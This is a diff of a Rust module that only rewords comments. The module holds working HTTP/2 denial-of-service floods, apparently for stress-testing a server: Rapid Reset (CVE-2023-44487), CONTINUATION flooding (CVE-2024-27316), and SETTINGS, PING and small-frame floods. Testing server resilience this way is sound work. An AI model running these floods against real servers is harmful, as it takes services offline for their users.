@@ -1,4 +1,4 @@
-//! Callers without a key that speak HTTP/2 only to keep the server busy.
+//! Callers without a key that use HTTP/2 frames to keep the server busy.
 
 use std::time::Duration;
 
@@ -12,11 +12,11 @@ use tokio::{
 use super::foe::Foe;
 
 const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
-/// `POST /` by http, in HPACK.
+/// `POST /` with the scheme http, in HPACK.
 const BLOCK: &[u8] = &[0x83, 0x86, 0x84, 0x41, 0x01, b'x'];
-/// Frames that are written at once.
+/// How many frames are written at once.
 const BURST: u32 = 500;
-/// After a connection that was closed.
+/// The pause after a connection was closed.
 const PAUSE: Duration = Duration::from_millis(20);
 
 const DATA: u8 = 0;
@@ -33,7 +33,7 @@ fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
     [&length[1..], &[kind, flags], &stream.to_be_bytes(), payload].concat()
 }
 
-/// What one connection sends, burst after burst; whether it reads what it is answered.
+/// Sends the bursts of one connection. `reads` says whether it reads the answers.
 async fn flood(
     foe: Foe,
     reads: bool,
@@ -58,7 +58,7 @@ async fn flood(
                 }
                 std::io::Result::Ok(())
             };
-            // The server closes it, or reads no further.
+            // The server closes the connection or stops reading.
             let _ = tokio::time::timeout(Duration::from_secs(10), sent).await;
             reading.abort();
             sleep(PAUSE).await;
@@ -71,7 +71,7 @@ fn many(make: impl Fn(u32) -> Vec<u8>) -> Vec<u8> {
     (0..BURST).flat_map(make).collect()
 }
 
-/// Requests that are taken back at once (CVE-2023-44487).
+/// Sends requests and resets them at once (CVE-2023-44487).
 pub async fn rapid_reset(foe: Foe) -> Result<()> {
     flood(foe, true, &[], |number| {
         many(|each| {
@@ -86,7 +86,7 @@ pub async fn rapid_reset(foe: Foe) -> Result<()> {
     .await
 }
 
-/// Settings that want to be acknowledged, by a client that does not read.
+/// Sends settings that must be acknowledged, without reading.
 pub async fn settings(foe: Foe) -> Result<()> {
     flood(foe, false, &[], |_| {
         many(|each| frame(SETTINGS, 0, 0, &[0, 4, 0, 1, (each >> 8) as u8, each as u8]))
@@ -94,7 +94,7 @@ pub async fn settings(foe: Foe) -> Result<()> {
     .await
 }
 
-/// Pings that want to be answered, by a client that does not read.
+/// Sends pings that must be answered, without reading.
 pub async fn pings(foe: Foe) -> Result<()> {
     flood(foe, false, &[], |_| {
         many(|each| frame(PING, 0, 0, &[&[0; 4], each.to_be_bytes().as_slice()].concat()))
@@ -102,12 +102,12 @@ pub async fn pings(foe: Foe) -> Result<()> {
     .await
 }
 
-/// Pings of a client that reads the answers.
+/// Sends pings and reads the answers.
 pub async fn answered_pings(foe: Foe) -> Result<()> {
     flood(foe, true, &[], |_| many(|_| frame(PING, 0, 0, &[7; 8]))).await
 }
 
-/// A head that does not end (CVE-2024-27316).
+/// Sends a head that does not end (CVE-2024-27316).
 pub async fn continuations(foe: Foe) -> Result<()> {
     // The literal field `a: b`, not indexed.
     const FIELD: &[u8] = &[0, 1, b'a', 1, b'b'];
@@ -116,7 +116,7 @@ pub async fn continuations(foe: Foe) -> Result<()> {
     flood(foe, true, BEGIN, |_| many(|_| frame(CONTINUATION, 0, 1, FIELD))).await
 }
 
-/// Empty frames of data, and windows that grow by one.
+/// Sends empty DATA frames, and WINDOW_UPDATE frames of one byte.
 pub async fn small_frames(foe: Foe) -> Result<()> {
     const BEGIN: &[u8] =
         &[0, 0, 6, HEADERS, END_HEADERS, 0, 0, 0, 1, 0x83, 0x86, 0x84, 0x41, 0x01, b'x'];
